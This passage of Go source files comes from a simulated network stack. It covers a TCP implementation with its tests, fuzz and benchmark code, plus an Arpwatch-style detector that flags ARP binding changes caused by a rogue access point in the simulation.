	p.k.RunUntil(5 * sim.Second)
}

func TestPortsReleasedAfterClose(t *testing.T) {
	p := newPair(t)
	l, _ := p.b.Listen(80)
	l.OnAccept = func(c *Conn) {
		c.OnEOF = func() { c.Close() }
	}
	for i := 0; i < 5; i++ {
		c, err := p.a.Dial(srvAddr)
		if err != nil {
			t.Fatal(err)
		}
		c.OnConnect = func() { c.Close() }
		p.k.RunUntil(p.k.Now() + 10*sim.Second)
	}
	if p.a.Conns() != 0 {
		t.Fatalf("%d conns leaked", p.a.Conns())
	}
}

func TestListenPortConflict(t *testing.T) {
	p := newPair(t)
	if _, err := p.b.Listen(80); err != nil {
		t.Fatal(err)
	}
	if _, err := p.b.Listen(80); err == nil {
		t.Fatal("double listen succeeded")
	}
}

func TestCongestionWindowGrows(t *testing.T) {
	p := newPair(t)
	l, _ := p.b.Listen(80)
	l.OnAccept = func(c *Conn) { c.OnData = func(b []byte) {} }
	c, _ := p.a.Dial(srvAddr)
	c.OnConnect = func() { _ = c.Write(make([]byte, 500_000)) }
	p.k.RunUntil(sim.Minute)
	if c.cwnd <= initialCwnd {
		t.Fatalf("cwnd = %v never grew beyond initial %v", c.cwnd, initialCwnd)
	}
}

func TestRTTEstimation(t *testing.T) {
	p := newPair(t)
	l, _ := p.b.Listen(80)
	l.OnAccept = func(c *Conn) { c.OnData = func(b []byte) {} }
	c, _ := p.a.Dial(srvAddr)
	c.OnConnect = func() { _ = c.Write(make([]byte, 10_000)) }
	p.k.RunUntil(10 * sim.Second)
	if c.srtt == 0 {
		t.Fatal("no RTT samples taken")
	}
	if c.rto < minRTO {
		t.Fatalf("rto %v below floor", c.rto)
	}
}

func TestSegmentChecksumRejectsCorruption(t *testing.T) {
	src := inet.MustParseAddr("10.0.0.1")
	dst := inet.MustParseAddr("10.0.0.2")
	s := segment{srcPort: 1, dstPort: 2, seq: 100, flags: flagACK, payload: []byte("data")}
	raw := s.marshal(src, dst)
	if _, err := unmarshalSegment(src, dst, raw); err != nil {
		t.Fatalf("clean segment rejected: %v", err)
	}
	raw[HeaderLen] ^= 1
	if _, err := unmarshalSegment(src, dst, raw); err == nil {
		t.Fatal("corrupt payload accepted")
	}
	// Wrong pseudo-header (spoofed address) must also fail.
	if _, err := unmarshalSegment(inet.MustParseAddr("10.0.0.9"), dst, s.marshal(src, dst)); err == nil {
		t.Fatal("pseudo-header mismatch accepted")
	}
}

func TestSeqArithmetic(t *testing.T) {
	if !seqLT(0xffffff00, 0x10) {
		t.Error("wraparound compare")
	}
	if seqLT(0x10, 0xffffff00) {
		t.Error("reverse wraparound")
	}
	if !seqLEQ(5, 5) {
		t.Error("equality")
	}
}

func TestStateString(t *testing.T) {
	for s, want := range map[State]string{
		StateClosed: "CLOSED", StateSynSent: "SYN_SENT", StateEstablished: "ESTABLISHED",
		StateTimeWait: "TIME_WAIT",
	} {
		if s.String() != want {
			t.Errorf("%d = %q", s, s.String())
		}
	}
}

// The segment parser must never panic on arbitrary bytes (it faces anything
// IP delivers).
func TestQuickSegmentParserNoPanic(t *testing.T) {
	src := inet.MustParseAddr("10.0.0.1")
	dst := inet.MustParseAddr("10.0.0.2")
	f := func(b []byte) bool {
		_, _ = unmarshalSegment(src, dst, b)
		return true
	}
	if err := quickCheck(f); err != nil {
		t.Fatal(err)
	}
}

func quickCheck(f func([]byte) bool) error {
	return quick.Check(f, &quick.Config{MaxCount: 2000})
}
