package tcp

import (
	"errors"
	"fmt"

	"repro/internal/inet"
	"repro/internal/sim"
)

// State is a connection's TCP state.
type State int

// TCP states (the subset this implementation distinguishes).
const (
	StateClosed State = iota
	StateSynSent
	StateSynReceived
	StateEstablished
	StateFinWait
	StateCloseWait
	StateLastAck
	StateTimeWait
)

// String names the state.
func (s State) String() string {
	switch s {
	case StateClosed:
		return "CLOSED"
	case StateSynSent:
		return "SYN_SENT"
	case StateSynReceived:
		return "SYN_RCVD"
	case StateEstablished:
		return "ESTABLISHED"
	case StateFinWait:
		return "FIN_WAIT"
	case StateCloseWait:
		return "CLOSE_WAIT"
	case StateLastAck:
		return "LAST_ACK"
	case StateTimeWait:
		return "TIME_WAIT"
	}
	return "?"
}

// Connection-level errors delivered to OnClose.
var (
	ErrReset       = errors.New("tcp: connection reset by peer")
	ErrTimeout     = errors.New("tcp: connection timed out")
	ErrConnRefused = errors.New("tcp: connection refused")
)

// Tunables.
const (
	initialRTO   = 1 * sim.Second
	minRTO       = 200 * sim.Millisecond
	maxRTO       = 60 * sim.Second
	maxRetries   = 10
	synRetries   = 5
	timeWaitDur  = 2 * sim.Second
	recvWindow   = 0xffff
	initialCwnd  = 2 * MSS
	initialSSTh  = 64 * 1024
	dupAckThresh = 3
)

// Conn is one TCP connection. All callbacks run on the simulation kernel.
type Conn struct {
	stack  *Stack
	local  inet.HostPort
	remote inet.HostPort
	state  State

	// Send state. sendBuf[0] corresponds to sequence number sndUna.
	iss     uint32
	sndUna  uint32
	sndNxt  uint32
	sendBuf []byte
	peerWnd uint32
	closing bool // FIN requested; send after buffer drains
	finSent bool
	finSeq  uint32
	mss     int

	// Congestion control (bytes).
	cwnd     float64
	ssthresh float64
	dupAcks  int

	// RTT estimation.
	srtt, rttvar sim.Time
	rto          sim.Time
	rttSeq       uint32 // sequence whose ack completes the measurement
	rttStart     sim.Time
	rttActive    bool

	// Receive state.
	rcvNxt   uint32
	ooo      map[uint32][]byte
	peerFIN  bool
	eofFired bool

	// Timers.
	rtxTimer   *sim.Event
	rtxRetries int
	synTries   int

	// Callbacks.
	OnConnect func()
	OnData    func(b []byte)
	OnEOF     func()
	OnClose   func(err error)

	closed     bool
	closeFired bool
	closeErr   error
	// onEstablished is the listener's accept hook on passive connections.
	onEstablished func(*Conn)

	// Counters.
	BytesIn, BytesOut       uint64
	SegmentsIn, SegmentsOut uint64
	Retransmits             uint64
	FastRetransmits         uint64
}

// State reports the connection state.
func (c *Conn) State() State { return c.state }

// LocalAddr reports the local endpoint.
func (c *Conn) LocalAddr() inet.HostPort { return c.local }

// RemoteAddr reports the remote endpoint.
func (c *Conn) RemoteAddr() inet.HostPort { return c.remote }

// Write queues data for transmission. It is an error to write after Close.
func (c *Conn) Write(b []byte) error {
	if c.closed || c.closing {
		return fmt.Errorf("tcp: write on closed connection")
	}
	if c.state != StateEstablished && c.state != StateSynSent && c.state != StateSynReceived && c.state != StateCloseWait {
		return fmt.Errorf("tcp: write in state %v", c.state)
	}
	c.sendBuf = append(c.sendBuf, b...)
	c.trySend()
	return nil
}

// Close initiates a graceful shutdown: queued data is delivered first, then
// a FIN.
func (c *Conn) Close() {
	if c.closed || c.closing {
		return
	}
	c.closing = true
	c.trySend()
}

// Abort sends a RST and tears the connection down immediately.
func (c *Conn) Abort() {
	if c.closed {
		return
	}
	c.sendSegment(segment{flags: flagRST | flagACK, seq: c.sndNxt, ack: c.rcvNxt})
	c.teardown(ErrReset)
}

// --- internals ---

func (c *Conn) kernel() *sim.Kernel { return c.stack.ip.Kernel() }

// inflight reports unacknowledged bytes.
func (c *Conn) inflight() uint32 { return c.sndNxt - c.sndUna }

// sendSegment transmits one segment with this connection's 4-tuple.
func (c *Conn) sendSegment(s segment) {
	s.srcPort = c.local.Port
	s.dstPort = c.remote.Port
	s.window = recvWindow
	c.SegmentsOut++
	c.stack.sendRaw(c.local.Addr, c.remote.Addr, s)
}

// trySend pushes as much buffered data as the windows allow, plus the FIN
// when the buffer drains.
func (c *Conn) trySend() {
	if c.state != StateEstablished && c.state != StateCloseWait && c.state != StateFinWait && c.state != StateLastAck {
		return
	}
	wnd := uint32(c.cwnd)
	if c.peerWnd < wnd {
		wnd = c.peerWnd
	}
	for {
		offset := c.sndNxt - c.sndUna // bytes already in flight
		avail := uint32(len(c.sendBuf)) - offset
		if avail == 0 || c.finSent {
			break
		}
		if c.inflight() >= wnd {
			break
		}
		n := avail
		if n > uint32(c.mss) {
			n = uint32(c.mss)
		}
		if room := wnd - c.inflight(); n > room {
			n = room
		}
		if n == 0 {
			break
		}
		payload := c.sendBuf[offset : offset+n]
		seg := segment{flags: flagACK, seq: c.sndNxt, ack: c.rcvNxt, payload: payload}
		// One RTT measurement at a time, never on retransmitted data.
		if !c.rttActive {
			c.rttActive = true
			c.rttSeq = c.sndNxt + n
			c.rttStart = c.kernel().Now()
		}
		c.sndNxt += n
		c.BytesOut += uint64(n)
		c.sendSegment(seg)
	}
	// FIN once everything queued has been sent at least once.
	if c.closing && !c.finSent && c.sndNxt-c.sndUna == uint32(len(c.sendBuf)) {
		c.finSent = true
		c.finSeq = c.sndNxt
		c.sendSegment(segment{flags: flagFIN | flagACK, seq: c.sndNxt, ack: c.rcvNxt})
		c.sndNxt++
		switch c.state {
		case StateEstablished:
			c.state = StateFinWait
		case StateCloseWait:
			c.state = StateLastAck
		}
	}
	c.armRetransmit()
}

func (c *Conn) armRetransmit() {
	if c.rtxTimer != nil {
		c.rtxTimer.Cancel()
		c.rtxTimer = nil
	}
	if c.inflight() == 0 {
		c.rtxRetries = 0
		return
	}
	rto := c.rto
	if rto == 0 {
		rto = initialRTO
	}
	c.rtxTimer = c.kernel().After(rto, c.onRetransmitTimeout)
}

func (c *Conn) onRetransmitTimeout() {
	if c.closed || c.inflight() == 0 {
		return
	}
	c.rtxRetries++
	if c.rtxRetries > maxRetries {
		c.teardown(ErrTimeout)
		return
	}
	// Back off and shrink to one segment (Reno timeout response).
	c.ssthresh = float64(c.inflight()) / 2
	if c.ssthresh < float64(2*c.mss) {
		c.ssthresh = float64(2 * c.mss)
	}
	c.cwnd = float64(c.mss)
	c.dupAcks = 0
	c.rto *= 2
	if c.rto > maxRTO {
		c.rto = maxRTO
	}
	if c.rto == 0 {
		c.rto = 2 * initialRTO
	}
	c.rttActive = false // Karn: no measurement across retransmits
	c.Retransmits++
	c.stack.Retransmits++
	c.retransmitFirst()
	c.armRetransmit()
}

// retransmitFirst resends the first unacknowledged chunk.
func (c *Conn) retransmitFirst() {
	if c.finSent && c.sndUna == c.finSeq {
		c.sendSegment(segment{flags: flagFIN | flagACK, seq: c.finSeq, ack: c.rcvNxt})
		return
	}
	n := c.inflight()
	if c.finSent && c.sndUna+n > c.finSeq {
		n = c.finSeq - c.sndUna // exclude the FIN
	}
	if n > uint32(c.mss) {
		n = uint32(c.mss)
	}
	if n == 0 {
		return
	}
	payload := c.sendBuf[:n]
	c.sendSegment(segment{flags: flagACK, seq: c.sndUna, ack: c.rcvNxt, payload: payload})
}

// handle processes one inbound segment for this connection.
func (c *Conn) handle(s segment) {
	if c.closed {
		return
	}
	c.SegmentsIn++
	if s.rst() {
		if c.state == StateSynSent {
			c.teardown(ErrConnRefused)
		} else {
			c.teardown(ErrReset)
		}
		return
	}
	switch c.state {
	case StateSynSent:
		if s.syn() && s.hasACK() && s.ack == c.iss+1 {
			c.sndUna = s.ack
			c.rcvNxt = s.seq + 1
			c.peerWnd = uint32(s.window)
			if s.mss > 0 && int(s.mss) < c.mss {
				c.mss = int(s.mss)
			}
			c.state = StateEstablished
			c.cancelSYNTimer()
			c.sendSegment(segment{flags: flagACK, seq: c.sndNxt, ack: c.rcvNxt})
			if c.OnConnect != nil {
				c.OnConnect()
			}
			c.trySend()
		}
		return
	case StateSynReceived:
		if s.syn() && !s.hasACK() {
			// Duplicate SYN: our SYN-ACK was lost; resend it.
			c.sendSegment(segment{flags: flagSYN | flagACK, seq: c.iss, ack: c.rcvNxt, mss: uint16(c.mss)})
			return
		}
		if s.hasACK() && s.ack == c.iss+1 {
			c.sndUna = s.ack
			c.peerWnd = uint32(s.window)
			c.state = StateEstablished
			c.cancelSYNTimer()
			if c.onEstablished != nil {
				c.onEstablished(c)
				c.onEstablished = nil
			}
			// fall through to normal processing of any payload
		} else if !s.hasACK() {
			return
		}
	}

	if s.hasACK() {
		c.processAck(s)
	}
	if len(s.payload) > 0 || s.fin() {
		c.processData(s)
	}
	c.maybeFinishClose()
}

// onEstablished is the listener's accept hook (set on passive conns).
// Declared as a field via conn creation in stack.go.

func (c *Conn) processAck(s segment) {
	ack := s.ack
	c.peerWnd = uint32(s.window)
	if seqLT(c.sndUna, ack) && seqLEQ(ack, c.sndNxt) {
		acked := ack - c.sndUna
		// FIN occupies sequence space but not buffer space.
		bufAcked := acked
		if c.finSent && seqLT(c.finSeq, ack) {
			bufAcked--
		}
		if bufAcked > uint32(len(c.sendBuf)) {
			bufAcked = uint32(len(c.sendBuf))
		}
		c.sendBuf = c.sendBuf[bufAcked:]
		c.sndUna = ack
		c.dupAcks = 0
		c.rtxRetries = 0
		// RTT sample.
		if c.rttActive && seqLEQ(c.rttSeq, ack) {
			c.rttActive = false
			c.updateRTT(c.kernel().Now() - c.rttStart)
		}
		// Congestion window growth.
		if c.cwnd < c.ssthresh {
			c.cwnd += float64(min32(acked, uint32(c.mss))) // slow start
		} else {
			c.cwnd += float64(c.mss*c.mss) / c.cwnd // congestion avoidance
		}
		c.armRetransmit()
		c.trySend()
	} else if ack == c.sndUna && c.inflight() > 0 && len(s.payload) == 0 && !s.fin() {
		c.dupAcks++
		if c.dupAcks == dupAckThresh {
			// Fast retransmit.
			c.ssthresh = float64(c.inflight()) / 2
			if c.ssthresh < float64(2*c.mss) {
				c.ssthresh = float64(2 * c.mss)
			}
			c.cwnd = c.ssthresh
			c.FastRetransmits++
			c.Retransmits++
			c.stack.Retransmits++
			c.rttActive = false
			c.retransmitFirst()
		}
	}
}

func min32(a, b uint32) uint32 {
	if a < b {
		return a
	}
	return b
}

func (c *Conn) updateRTT(sample sim.Time) {
	if c.srtt == 0 {
		c.srtt = sample
		c.rttvar = sample / 2
	} else {
		diff := c.srtt - sample
		if diff < 0 {
			diff = -diff
		}
		c.rttvar = (3*c.rttvar + diff) / 4
		c.srtt = (7*c.srtt + sample) / 8
	}
	c.rto = c.srtt + 4*c.rttvar
	if c.rto < minRTO {
		c.rto = minRTO
	}
	if c.rto > maxRTO {
		c.rto = maxRTO
	}
}

func (c *Conn) processData(s segment) {
	seq := s.seq
	payload := s.payload
	// Trim anything already received.
	if seqLT(seq, c.rcvNxt) {
		skip := c.rcvNxt - seq
		if skip >= uint32(len(payload)) {
			if !s.fin() || seqLT(seq+uint32(len(payload)), c.rcvNxt) {
				// Entirely old: re-ACK.
				c.sendAck()
				return
			}
			payload = nil
			seq = c.rcvNxt
		} else {
			payload = payload[skip:]
			seq = c.rcvNxt
		}
	}
	if seq == c.rcvNxt {
		c.acceptData(payload)
		if s.fin() {
			c.acceptFIN()
		}
		// Drain any out-of-order segments now contiguous.
		for {
			data, ok := c.ooo[c.rcvNxt]
			if !ok {
				break
			}
			delete(c.ooo, c.rcvNxt)
			c.acceptData(data)
		}
		if c.peerFIN && !c.eofFired {
			c.eofFired = true
			if c.OnEOF != nil {
				c.OnEOF()
			}
		}
		c.sendAck()
		return
	}
	// Out of order: stash and send a duplicate ACK.
	if len(payload) > 0 {
		if c.ooo == nil {
			c.ooo = make(map[uint32][]byte)
		}
		if _, dup := c.ooo[seq]; !dup {
			c.ooo[seq] = append([]byte(nil), payload...)
		}
	}
	if s.fin() {
		// Remember the FIN for when the gap fills. Simplification: treat
		// an out-of-order FIN by stashing its position via a zero-length
		// marker; it will be rediscovered on retransmission.
		_ = s
	}
	c.sendAck()
}

func (c *Conn) acceptData(b []byte) {
	if len(b) == 0 {
		return
	}
	c.rcvNxt += uint32(len(b))
	c.BytesIn += uint64(len(b))
	if c.OnData != nil {
		c.OnData(b)
	}
}

func (c *Conn) acceptFIN() {
	if c.peerFIN {
		return
	}
	c.peerFIN = true
	c.rcvNxt++
	switch c.state {
	case StateEstablished:
		c.state = StateCloseWait
	case StateFinWait:
		// simultaneous or sequential close; handled in maybeFinishClose
	}
}

func (c *Conn) sendAck() {
	c.sendSegment(segment{flags: flagACK, seq: c.sndNxt, ack: c.rcvNxt})
}

// maybeFinishClose moves fully closed connections to TIME_WAIT/teardown.
func (c *Conn) maybeFinishClose() {
	if c.closed {
		return
	}
	finAcked := c.finSent && seqLT(c.finSeq, c.sndUna)
	if finAcked && c.peerFIN {
		if c.state == StateLastAck {
			c.teardown(nil)
			return
		}
		if c.state != StateTimeWait {
			c.state = StateTimeWait
			c.kernel().ScheduleAfter(timeWaitDur, func() { c.teardown(nil) })
			// Report graceful completion now; the socket lingers only
			// for late segments.
			c.fireClose(nil)
		}
	}
}

func (c *Conn) cancelSYNTimer() {
	if c.rtxTimer != nil {
		c.rtxTimer.Cancel()
		c.rtxTimer = nil
	}
}

func (c *Conn) fireClose(err error) {
	if c.closeFired {
		return
	}
	c.closeFired = true
	if c.OnClose != nil {
		c.OnClose(err)
	}
}

// teardown finalises the connection and removes it from the stack.
func (c *Conn) teardown(err error) {
	if c.closed {
		return
	}
	c.closed = true
	c.closeErr = err
	c.state = StateClosed
	if c.rtxTimer != nil {
		c.rtxTimer.Cancel()
	}
	c.stack.removeConn(c)
	c.fireClose(err)
}
