package tcp

import (
	"bytes"
	"testing"

	"repro/internal/inet"
)

// FuzzSegment checks the TCP segment codec (in-package: the codec is
// unexported). unmarshalSegment verifies the pseudo-header checksum, so the
// interesting corpus entries are valid marshalled segments that fuzzing then
// perturbs. Accepted segments must round-trip — with one normalisation:
// marshal only emits an MSS option on SYN segments, so a (nonsensical) MSS
// option parsed off a non-SYN input is dropped on re-encode.
func FuzzSegment(f *testing.F) {
	src := inet.MustParseAddr("10.0.0.3")
	dst := inet.MustParseAddr("198.18.0.80")
	syn := segment{srcPort: 49152, dstPort: 80, seq: 1000, flags: flagSYN, window: 0xffff, mss: 1460}
	f.Add(syn.marshal(src, dst))
	dataSeg := segment{srcPort: 80, dstPort: 49152, seq: 2000, ack: 1001,
		flags: flagACK, window: 0xffff, payload: []byte("http response bytes")}
	f.Add(dataSeg.marshal(src, dst))
	finSeg := segment{srcPort: 80, dstPort: 49152, seq: 3000, ack: 1001, flags: flagFIN | flagACK}
	f.Add(finSeg.marshal(src, dst))
	rstSeg := segment{srcPort: 1, dstPort: 2, flags: flagRST}
	f.Add(rstSeg.marshal(src, dst))
	f.Add([]byte{0, 80, 0, 80})

	f.Fuzz(func(t *testing.T, b []byte) {
		s1, err := unmarshalSegment(src, dst, b)
		if err != nil {
			return
		}
		b2 := s1.marshal(src, dst)
		s2, err := unmarshalSegment(src, dst, b2)
		if err != nil {
			t.Fatalf("re-decode of marshalled segment failed: %v", err)
		}
		if s1.srcPort != s2.srcPort || s1.dstPort != s2.dstPort ||
			s1.seq != s2.seq || s1.ack != s2.ack || s1.flags != s2.flags ||
			s1.window != s2.window || !bytes.Equal(s1.payload, s2.payload) {
			t.Fatalf("segment round-trip unstable:\n first %+v\nsecond %+v", s1, s2)
		}
		if s1.syn() && s1.mss != s2.mss {
			t.Fatalf("SYN MSS option lost: %d != %d", s1.mss, s2.mss)
		}
	})
}
