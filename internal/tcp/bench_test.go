package tcp

import (
	"testing"

	"repro/internal/inet"
)

// BenchmarkTCPMarshal is the per-layer marshal bench gated by
// scripts/bench.sh: serialising an MSS-sized data segment, pseudo-header
// checksum included, into a recycled buffer — the transmit path's
// marshalInto, with the allocation amortised away as in the real stack.
func BenchmarkTCPMarshal(b *testing.B) {
	src := inet.Addr{10, 0, 0, 1}
	dst := inet.Addr{10, 0, 0, 2}
	s := &segment{
		srcPort: 40000, dstPort: 80,
		seq: 0x1000, ack: 0x2000,
		flags: flagACK, window: 65535,
		payload: make([]byte, MSS),
	}
	buf := make([]byte, s.wireLen())
	b.SetBytes(int64(s.wireLen()))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		s.marshalInto(buf, src, dst)
	}
}
