package tcp

import (
	"fmt"

	"repro/internal/inet"
	"repro/internal/ipv4"
)

// connKey identifies a connection by its 4-tuple.
type connKey struct {
	local, remote inet.HostPort
}

// Listener accepts inbound connections on a port.
type Listener struct {
	stack *Stack
	port  inet.Port
	// OnAccept fires when a connection completes the handshake.
	OnAccept func(c *Conn)
}

// Port reports the listening port.
func (l *Listener) Port() inet.Port { return l.port }

// Close stops accepting (existing connections are unaffected).
func (l *Listener) Close() { delete(l.stack.listeners, l.port) }

// Stack is a host's TCP engine, bound to its IPv4 stack.
type Stack struct {
	ip        *ipv4.Stack
	listeners map[inet.Port]*Listener
	conns     map[connKey]*Conn
	nextEphem inet.Port
	issSeed   uint32

	// MSS is the maximum segment size for connections on this stack
	// (default MSS). VPN hosts lower it so tunnelled packets fit the
	// carrier MTU without fragmentation.
	MSS int

	// Counters.
	SegmentsIn, BadSegments, RSTsSent uint64
	Retransmits                       uint64
}

// NewStack attaches TCP to an IPv4 stack.
func NewStack(ip *ipv4.Stack) *Stack {
	s := &Stack{
		ip:        ip,
		listeners: make(map[inet.Port]*Listener),
		conns:     make(map[connKey]*Conn),
		nextEphem: 49152,
		issSeed:   uint32(ip.Kernel().RNG().Uint32()),
		MSS:       MSS,
	}
	ip.Handle(ipv4.ProtoTCP, s.onPacket)
	ip.Kernel().RegisterInvariant("tcp/conn-state", s.checkConns)
	return s
}

// checkConns is a sim invariant (run at event boundaries when checks are
// enabled): every live connection's sequence-space bookkeeping must be
// internally consistent. The bounds are conservative — they hold in every
// legal TCP state, so a violation always means stack corruption rather than
// an unusual-but-valid peer.
func (s *Stack) checkConns() error {
	// Any violation aborts the run; only the first-error text varies with
	// iteration order, never simulation state. Sorting multi-field conn keys
	// at every event boundary would cost more than the check itself.
	//simvet:allow maporder invariant check is order-independent: any hit aborts, and sorting multi-field conn keys per event boundary costs more than the check
	for k, c := range s.conns {
		if !seqLEQ(c.sndUna, c.sndNxt) {
			return fmt.Errorf("conn %v->%v: sndUna %d beyond sndNxt %d", k.local, k.remote, c.sndUna, c.sndNxt)
		}
		// In-flight sequence space is bounded by unacked payload plus at
		// most one SYN and one FIN.
		if inflight := c.sndNxt - c.sndUna; inflight > uint32(len(c.sendBuf))+2 {
			return fmt.Errorf("conn %v->%v: %d seq in flight but only %d buffered", k.local, k.remote, inflight, len(c.sendBuf))
		}
		if c.rto < 0 {
			return fmt.Errorf("conn %v->%v: negative rto %v", k.local, k.remote, c.rto)
		}
		if c.cwnd < 0 {
			return fmt.Errorf("conn %v->%v: negative cwnd %v", k.local, k.remote, c.cwnd)
		}
	}
	return nil
}

// IP exposes the underlying network stack.
func (s *Stack) IP() *ipv4.Stack { return s.ip }

// Listen binds a listener to port.
func (s *Stack) Listen(port inet.Port) (*Listener, error) {
	if _, taken := s.listeners[port]; taken {
		return nil, fmt.Errorf("tcp: port %d in use", port)
	}
	l := &Listener{stack: s, port: port}
	s.listeners[port] = l
	return l, nil
}

// Dial opens a connection to dst. The returned Conn is in SYN_SENT; install
// callbacks immediately — OnConnect fires when the handshake completes.
func (s *Stack) Dial(dst inet.HostPort) (*Conn, error) {
	srcAddr, err := s.ip.SrcAddrFor(dst.Addr)
	if err != nil {
		return nil, err
	}
	local := inet.HostPort{Addr: srcAddr, Port: s.ephemeral()}
	key := connKey{local: local, remote: dst}
	if _, exists := s.conns[key]; exists {
		return nil, fmt.Errorf("tcp: connection already exists")
	}
	c := s.newConn(local, dst)
	c.state = StateSynSent
	s.conns[key] = c
	s.sendSYN(c)
	return c, nil
}

func (s *Stack) newConn(local, remote inet.HostPort) *Conn {
	s.issSeed = s.issSeed*1664525 + 1013904223
	iss := s.issSeed
	mss := s.MSS
	if mss <= 0 || mss > MSS {
		mss = MSS
	}
	return &Conn{
		stack:    s,
		local:    local,
		remote:   remote,
		iss:      iss,
		sndUna:   iss,
		sndNxt:   iss + 1, // SYN occupies one sequence number
		peerWnd:  recvWindow,
		mss:      mss,
		cwnd:     float64(2 * mss),
		ssthresh: initialSSTh,
		rto:      initialRTO,
	}
}

func (s *Stack) sendSYN(c *Conn) {
	c.synTries++
	if c.synTries > synRetries {
		c.teardown(ErrTimeout)
		return
	}
	c.sendSegment(segment{flags: flagSYN, seq: c.iss, mss: uint16(c.mss)})
	backoff := initialRTO
	for i := 1; i < c.synTries; i++ {
		backoff *= 2
	}
	c.rtxTimer = s.ip.Kernel().After(backoff, func() {
		if c.state == StateSynSent {
			s.Retransmits++
			s.sendSYN(c)
		}
	})
}

func (s *Stack) ephemeral() inet.Port {
	for {
		p := s.nextEphem
		s.nextEphem++
		if s.nextEphem == 0 {
			s.nextEphem = 49152
		}
		inUse := false
		for k := range s.conns {
			if k.local.Port == p {
				inUse = true
				break
			}
		}
		if !inUse {
			return p
		}
	}
}

func (s *Stack) removeConn(c *Conn) {
	delete(s.conns, connKey{local: c.local, remote: c.remote})
}

// sendRaw emits a marshalled segment through IP, serialising it into a
// pooled buffer whose headroom the lower layers push their headers into.
func (s *Stack) sendRaw(src, dst inet.Addr, seg segment) {
	pb := s.ip.Kernel().BufPool().Get()
	seg.marshalInto(pb.Extend(seg.wireLen()), src, dst)
	_ = s.ip.SendBuf(src, dst, ipv4.ProtoTCP, pb)
}

// onPacket dispatches inbound segments.
func (s *Stack) onPacket(pkt *ipv4.Packet, in string) {
	seg, err := unmarshalSegment(pkt.Src, pkt.Dst, pkt.Payload)
	if err != nil {
		s.BadSegments++
		return
	}
	s.SegmentsIn++
	local := inet.HostPort{Addr: pkt.Dst, Port: seg.dstPort}
	remote := inet.HostPort{Addr: pkt.Src, Port: seg.srcPort}
	key := connKey{local: local, remote: remote}
	if c, ok := s.conns[key]; ok {
		c.handle(seg)
		return
	}
	// New connection?
	if seg.syn() && !seg.hasACK() {
		if l, ok := s.listeners[seg.dstPort]; ok {
			c := s.newConn(local, remote)
			c.state = StateSynReceived
			c.rcvNxt = seg.seq + 1
			c.peerWnd = uint32(seg.window)
			if seg.mss > 0 && int(seg.mss) < c.mss {
				c.mss = int(seg.mss)
			}
			c.onEstablished = func(conn *Conn) {
				if l.OnAccept != nil {
					l.OnAccept(conn)
				}
			}
			s.conns[key] = c
			c.sendSegment(segment{flags: flagSYN | flagACK, seq: c.iss, ack: c.rcvNxt, mss: uint16(c.mss)})
			return
		}
	}
	// No socket: refuse with RST (unless the stray segment was itself RST).
	if !seg.rst() {
		s.RSTsSent++
		rst := segment{srcPort: seg.dstPort, dstPort: seg.srcPort, flags: flagRST | flagACK,
			seq: seg.ack, ack: seg.seq + seg.seqLen()}
		s.sendRaw(pkt.Dst, pkt.Src, rst)
	}
}

// Conns reports the number of live connections (tests, leak checks).
func (s *Stack) Conns() int { return len(s.conns) }
