package detect

import (
	"fmt"

	"repro/internal/arp"
	"repro/internal/ethernet"
	"repro/internal/sim"
)

// Arpwatch is the wired-side aid §2.3 mentions ("monitoring the traffic on
// the wired LAN can also aid in detection of Rogue APs"), modelled on the
// classic arpwatch tool: it watches ARP traffic on a switch port and flags
// IP→MAC binding changes ("flip flops").
//
// The paper's rogue betrays itself here: to take over a victim's return
// path it claims the victim's IP with its own client-side MAC (gratuitous
// ARP), so the wired LAN sees the victim's IP move to a different hardware
// address.
type Arpwatch struct {
	kernel   *sim.Kernel
	bindings map[[4]byte]ethernet.MAC

	// OnAlert fires for each flip-flop; Alerts accumulates them.
	OnAlert func(Alert)
	Alerts  []Alert

	// PacketsSeen counts ARP packets analysed.
	PacketsSeen uint64
}

// AlertARPFlipFlop is the Arpwatch alert kind.
const AlertARPFlipFlop AlertKind = 100

// NewArpwatch attaches the monitor to a promiscuous switch port (or any
// ethernet.NIC that will deliver ARP frames).
func NewArpwatch(k *sim.Kernel, nic ethernet.NIC) *Arpwatch {
	w := &Arpwatch{kernel: k, bindings: make(map[[4]byte]ethernet.MAC)}
	if p, ok := nic.(*ethernet.Port); ok {
		p.SetPromiscuous(true)
	}
	nic.SetReceiver(func(f ethernet.Frame) {
		if f.Type == ethernet.TypeARP {
			w.observe(f.Payload)
		}
	})
	return w
}

// observe analyses one ARP payload.
func (w *Arpwatch) observe(payload []byte) {
	p, err := arp.Unmarshal(payload)
	if err != nil {
		return
	}
	w.PacketsSeen++
	if p.SenderIP.IsUnspecified() {
		return
	}
	key := [4]byte(p.SenderIP)
	prev, known := w.bindings[key]
	w.bindings[key] = p.SenderHW
	if known && prev != p.SenderHW {
		a := Alert{
			Kind: AlertARPFlipFlop,
			MAC:  p.SenderHW,
			At:   w.kernel.Now(),
			Detail: fmt.Sprintf("IP %v moved from %v to %v (flip flop)",
				p.SenderIP, prev, p.SenderHW),
		}
		w.Alerts = append(w.Alerts, a)
		if w.OnAlert != nil {
			w.OnAlert(a)
		}
	}
}

// Binding reports the current MAC believed to own ip.
func (w *Arpwatch) Binding(ip [4]byte) (ethernet.MAC, bool) {
	m, ok := w.bindings[ip]
	return m, ok
}
