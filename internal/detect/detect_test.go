package detect

import (
	"testing"

	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/phy"
	"repro/internal/sim"
)

var (
	apMAC    = ethernet.MustParseMAC("02:aa:bb:cc:dd:01")
	staMAC   = ethernet.MustParseMAC("02:00:00:00:03:01")
	otherMAC = ethernet.MustParseMAC("02:00:00:00:04:01")
)

func frame(src ethernet.MAC, seq uint16) dot11.Frame {
	return dot11.Frame{Type: dot11.TypeData, ToDS: true, Addr1: apMAC, Addr2: src, Addr3: apMAC, Seq: seq & 0x0fff}
}

func newDetector() (*sim.Kernel, *Detector) {
	k := sim.NewKernel(1)
	return k, New(k, Config{})
}

func TestHealthySequenceNoAlert(t *testing.T) {
	_, d := newDetector()
	for i := 0; i < 5000; i++ {
		d.Observe(frame(staMAC, uint16(i)), phy.RxInfo{})
	}
	if len(d.Alerts) != 0 {
		t.Fatalf("alerts on healthy traffic: %v", d.Alerts)
	}
}

func TestSequenceWrapIsNotAnomalous(t *testing.T) {
	_, d := newDetector()
	for i := 4000; i < 4300; i++ { // crosses the 4095->0 wrap
		d.Observe(frame(staMAC, uint16(i)), phy.RxInfo{})
	}
	if len(d.Alerts) != 0 {
		t.Fatalf("alerts on wraparound: %v", d.Alerts)
